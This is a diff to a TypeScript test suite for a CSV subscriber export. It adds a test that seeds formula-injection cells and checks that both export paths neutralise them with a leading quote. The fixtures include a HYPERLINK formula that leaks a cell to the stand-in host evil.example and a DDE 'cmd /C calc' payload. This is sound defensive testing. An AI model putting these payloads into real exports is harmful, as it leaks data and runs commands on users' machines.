@@ -35,6 +35,7 @@ const HOSTILE_SEARCHES = [
 ];
 
 let actor: Actor;
+let ownerId: string;
 let storeId: string;
 let largeStoreId: string;
 let rowsInTable: number;
@@ -88,7 +89,8 @@ async function waitFor(check: () => Promise<boolean>, what: string): Promise<voi
 
 beforeAll(async () => {
   const owner = await createOrganizationWithAdmin();
-  actor = await actorFor(owner.admin.id);
+  ownerId = owner.admin.id;
+  actor = await actorFor(ownerId);
   storeId = (await createStoreFor(owner.admin.id)).id;
   largeStoreId = (await createStoreFor(owner.admin.id)).id;
   const stranger = await createOrganizationWithAdmin();
@@ -204,6 +206,44 @@ describe("COPY export", () => {
     await waitFor(async () => (await activeCopies()) === 0, "the aborted COPYs to end");
     const { copied } = await bothExports({}, largeStoreId);
     expect(copied.toString("utf8").split("\r\n")).toHaveLength(LARGE_ROWS + 2);
+  });
+});
+
+describe("formulas after a separator", () => {
+  /** Cells a spreadsheet splitting on ";", "|", a tab or a line break would read as formulas. */
+  const HOSTILE_CELLS = {
+    name: 'Jo;=HYPERLINK("http://evil.example/?"&A1;"click")',
+    company: "Acme|+cmd|' /C calc'!A0",
+    address: "Street 1\n=1+2",
+    city: "Paris\t-3+4",
+    state: 'x;"@SUM(A1)"',
+    zipCode: "=1;=2",
+    consentPageUrl: "https://shop.example/?a;=b,=c",
+  };
+  /** The same cells as csvCell and the COPY export must write them: a quote before each formula start. */
+  const INERT_CELLS = [
+    '"Jo;\'=HYPERLINK(""http://evil.example/?""&A1;""click"")"',
+    "Acme|'+cmd|' /C calc'!A0",
+    '"Street 1\n\'=1+2"',
+    "Paris\t'-3+4",
+    '"x;""\'@SUM(A1)"""',
+    "'=1;'=2",
+    "\"https://shop.example/?a;'=b,'=c\"",
+  ];
+  let hostileStoreId: string;
+
+  beforeAll(async () => {
+    hostileStoreId = (await createStoreFor(ownerId)).id;
+    await testDb()
+      .insert(subscribers)
+      .values({ storeId: hostileStoreId, email: "hostile-cells@acme.example", ...HOSTILE_CELLS });
+  });
+
+  it("writes each of them inert, in the same bytes on both paths", async () => {
+    const { copied, batched } = await bothExports({}, hostileStoreId);
+    expect(copied.toString("utf8")).toBe(batched.toString("utf8"));
+    const text = copied.toString("utf8");
+    for (const cell of INERT_CELLS) expect(text).toContain(cell);
   });
 });
 
